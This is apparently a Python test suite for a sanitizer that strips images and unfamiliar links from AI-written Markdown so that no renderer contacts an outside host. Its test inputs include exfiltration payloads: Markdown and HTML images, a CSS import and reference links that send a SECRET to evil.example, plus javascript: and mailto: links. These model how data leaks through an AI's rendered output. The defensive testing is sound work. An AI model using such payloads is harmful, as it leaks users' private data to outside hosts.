"""Images and links in what models write: nothing that a reader would ask another host for is left."""

from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from temporal_supervisor.supervision.contract.result import Gap
from temporal_supervisor.supervision.results.answer import with_gaps
from temporal_supervisor.supervision.results.shown_links import (
    addresses_in,
    without_images,
    without_links,
    without_own_links,
)

READ = "See https://ok.example/a, (https://ok.example/w_(b)) and www.ok.example/x."
KNOWN = addresses_in(READ)
EVIL = "https://evil.example/?q=SECRET"


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        (f"![x]({EVIL}) [t1]", "[image: evil.example] [t1]"),
        ("![x](https://ok.example/a)", "[image: ok.example]"),
        (f'![]({EVIL} "t")', "[image: evil.example]"),
        ("![x](//evil.example/SECRET)", "[image: evil.example]"),
        (f"![x][r]\n\n[r]: {EVIL}", "! [x][r]\n\n[r] : evil.example"),
        (f"[r]:\n  <{EVIL}>", "[r] :\n  evil.example"),
        (f"![a [b](https://ok.example/a)]({EVIL})", "! [a [b](https://ok.example/a)] (evil.example)"),
        (f"[![x]({EVIL})](https://ok.example/a)", "[[image: evil.example]] (https://ok.example/a)"),
        (f"[more]({EVIL})", "more (evil.example)"),
        (f"[evil.example]({EVIL})", "evil.example"),
        (f"[https://ok.example/a]({EVIL})", "https://ok.example/a (evil.example)"),
        (f"[x](\n{EVIL})", "[x] (\nevil.example)"),
        ("[x](&#104;ttps://evil.example/SECRET)", "[x] (&#104;ttps://evil.example/SECRET)"),
        ("[x](javascript:alert(1))", "x"),
        ("[x](mailto:eve@evil.example?body=SECRET)", "x"),
        (f"<{EVIL}>", "evil.example"),
        (f"see {EVIL}.", "see evil.example."),
        ("www.evil.example/?SECRET", "evil.example"),
        ("ftp://evil.example/SECRET", "evil.example"),
        (f'<img src="{EVIL}">', '< img src="evil.example'),
        ("<img src='//evil.example/SECRET'>", "< img src='//evil.example/SECRET'>"),
        ("<style>@import '//evil.example/SECRET'</style>", "< style>@import '//evil.example/SECRET'< /style>"),
        ("https://ok.example/a|SECRET", "ok.example"),
        ("https://ok.example/a/SECRET", "ok.example"),
        ("https://ok.example/A", "ok.example"),
        ("[x](https://ok.example/a?SECRET)", "x (ok.example)"),
    ],
)
def test_what_would_be_asked_for_becomes_text_with_its_host(written: str, shown: str) -> None:
    assert without_links(written, KNOWN) == shown


@pytest.mark.parametrize(
    "written",
    [
        "[c](https://ok.example/a) and <https://ok.example/a>",
        "see https://ok.example/a. (https://ok.example/w_(b))",
        "| a | https://ok.example/a |",
        "www.ok.example/x, https://ok.example/a/",
        "[t1][t2] [1] x[0]: int vector<int> <br> 5 < 6 [part](#part) 3:4",
    ],
)
def test_what_was_read_stays_a_link(written: str) -> None:
    assert without_links(written, KNOWN) == written


parts = st.sampled_from(
    [
        "![",
        "[",
        "]",
        "](",
        "(",
        ")",
        "<",
        ">",
        "!",
        "\n",
        " ",
        ":",
        "\\",
        "`",
        "|",
        "*",
        "a",
        "img src=",
        "//evil.example/S",
    ]
    + [EVIL, "https://ok.example/a", "www.evil.example", "\n[a]: ", "[a]", '"', "&lt;", "https:", "'"]
)


@example("\n[a]: [\n[a]: ")
@example("\n[a]: a\n\n[a]")
@example("\n[a]: a 'title'\n\n[a]")
@example("\n[a]: 'a\n\n[a]")
@given(st.lists(parts, max_size=14).map("".join))
def test_no_reader_of_markdown_finds_another_url(written: str) -> None:
    reader = MarkdownIt("commonmark", {"html": True}).enable(["table"])
    asked = list[str]()

    def look(tokens: list[Any]) -> None:
        for token in tokens:
            asked.extend(str(token.attrs[name]) for name in ("href", "src") if name in token.attrs)
            assert token.type != "image"
            if token.type in ("html_inline", "html_block"):
                assert "src=" not in token.content.replace("< ", "")
            look(token.children or [])

    look(reader.parse(without_links(written, KNOWN)))
    assert {url.rstrip("/") for url in asked} <= KNOWN | {""}


def test_a_value_keeps_its_addresses_and_loses_its_images() -> None:
    value: Any = {"a": [f"![x]({EVIL}) {EVIL}", "<img src=x>", "![x][r]", "ok!"], "n": 1, "none": None}
    assert without_images(value) == {
        "a": [f"[image: evil.example] {EVIL}", "< img src=x>", "! [x][r]", "ok!"],
        "n": 1,
        "none": None,
    }


def test_a_persons_links_stay_and_the_reason_of_a_gap_has_none() -> None:
    assert without_own_links(f"{EVIL} ![x]({EVIL})") == f"{EVIL} [image: evil.example]"
    told = with_gaps("Pears.", [Gap(subtask_id="t1", description="Find", reason=f"![x]({EVIL}) {EVIL}")])
    assert told.endswith("- Find (`t1`: [image: evil.example] evil.example)")
